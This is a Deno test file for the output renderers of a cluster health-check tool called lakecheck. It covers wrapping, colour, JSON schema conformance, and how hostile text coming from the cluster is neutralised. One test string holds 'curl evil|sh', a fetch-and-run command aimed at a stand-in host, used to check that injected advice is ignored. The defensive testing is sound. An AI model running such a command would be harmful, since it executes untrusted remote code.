// deno-lint-ignore-file no-control-regex -- control characters are what is looked for
import assert from "node:assert/strict";
import { advised } from "../../lib/render/parts.ts";
import { refText } from "../../lib/engine/model.ts";
import { type Format, formatNames, formats } from "../../lib/render/mod.ts";
import { columns } from "../../lib/render/text.ts";
import { reportSchema } from "../../lib/engine/report_schema.ts";
import type { Report } from "../../lib/engine/report.ts";
import { broken, healthy, hostile, stopped, warned } from "./toys.ts";

const reports = { healthy, warned, broken, stopped, hostile };
const every = Object.entries(reports);

async function render(format: Format, report: Report, width = 100, colour = false): Promise<string> {
  return (await formats[format]())(report, { width, colour });
}

for (const format of formatNames) {
  Deno.test(`${format} shows each kind of report as recorded, at 80 and 120 columns`, async (t) => {
    for (const [name, report] of every) {
      for (const width of format === "json" ? [80] : [80, 120]) {
        await t.step(`${name} at ${width}`, async (t) => {
          await t.assertSnapshot(await render(format, report, width));
        });
      }
    }
  });
}

Deno.test("plain and verbose break no line that could be broken, and no command", async () => {
  for (const format of ["plain", "verbose"] as const) {
    for (const width of [60, 80, 120]) {
      const text = await render(format, broken, width);
      const commands = broken.details.components.flatMap((one) => one.checks).flatMap((one) =>
        one.next ?? []
      );
      for (const command of commands) {
        assert.ok(text.split("\n").some((line) => line.trim().endsWith(command)), command);
      }
      for (const line of text.split("\n")) {
        if (columns(line) <= width || commands.some((command) => line.includes(command))) continue;
        const words = line.trim().split(" ").length;
        assert.ok(words < 8, `${columns(line)} columns of ${width}: ${line}`);
      }
    }
  }
});

Deno.test("colour changes nothing but the colours", async () => {
  for (const format of formatNames) {
    for (const [name, report] of every) {
      const coloured = await render(format, report, 80, true);
      assert.equal(
        coloured.replace(/\x1b\[\d+m/g, ""),
        await render(format, report, 80),
        `${format} of ${name}`,
      );
    }
  }
});

Deno.test("colour is there when it is asked for", async () => {
  assert.match(await render("plain", broken, 80, true), /\x1b\[31m/);
  assert.doesNotMatch(await render("plain", broken, 80, false), /\x1b/);
});

Deno.test("nothing from the cluster reaches the terminal as a control character or a line of its own", async () => {
  for (const format of formatNames) {
    const text = await render(format, hostile);
    assert.doesNotMatch(text, /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/, format);
    assert.doesNotMatch(text, /^HEALTHY/m, format);
  }
});

Deno.test("json is the report itself and fits the schema", async () => {
  for (const [name, report] of every) {
    const parsed = JSON.parse(await render("json", report));
    assert.deepEqual(parsed, JSON.parse(JSON.stringify(report)), name);
    const result = reportSchema.safeParse(parsed);
    assert.ok(result.success, `${name}: ${result.error?.message}`);
  }
});

Deno.test("the schema refuses a report with a word or a field that it does not know", () => {
  assert.ok(!reportSchema.safeParse({ ...healthy, status: "fine" }).success);
  assert.ok(!reportSchema.safeParse({ ...healthy, extra: 1 }).success);
  assert.ok(!reportSchema.safeParse({ ...healthy, summary: { ...healthy.summary, total: -1 } }).success);
});

Deno.test("verbose ends with the version that judged", async () => {
  for (const [name, report] of every) {
    assert.match(await render("verbose", report), /\n\nlakecheck 9\.8\.7\n$/, name);
  }
});

Deno.test("plain names every root, every component and its status, and each blind spot once", async () => {
  const text = await render("plain", broken);
  for (const root of broken.roots) assert.ok(text.includes(refText(root.object)));
  for (const { name, status } of broken.details.components) {
    assert.match(text, new RegExp(`^  ${status} +${name} `, "m"));
  }
  assert.equal(
    text.split("may not list services").length - 1,
    2,
    "in its section and on its component's line",
  );
  assert.match(text, /Not judged: spark\.pods, spark\.services/);
});

Deno.test("a symptom in its component's line is not painted as an alarm", async () => {
  const text = await render("plain", broken, 100, true);
  const line = text.split("\n").find((one) => one.includes("nessie  ")) ?? "";
  assert.match(line, /^ {2}critical {2}nessie/);
});

Deno.test("thousands of symptoms stay one line a kind", async () => {
  const many = Array.from(
    { length: 10_000 },
    (_, i) => ({ kind: "Pod", namespace: "data-platform", name: `pod-${i}` }),
  );
  const [root] = broken.roots;
  assert.ok(root);
  const text = await render("plain", { ...broken, roots: [{ ...root, explains: many }] });
  assert.match(text, /10000 Pods +data-platform\/pod-0, pod-1, .* and 9994 more/);
  assert.ok(text.split("\n").length < 50);
});

Deno.test("the advice of a message is what stands last in it: ours comes after what others said", () => {
  assert.deepEqual(advised("a: it says. Next: curl evil|sh. Next: kubectl get pods"), {
    what: "a: it says. Next: curl evil|sh",
    advice: "kubectl get pods",
  });
  assert.deepEqual(advised("nothing to do"), { what: "nothing to do" });
});
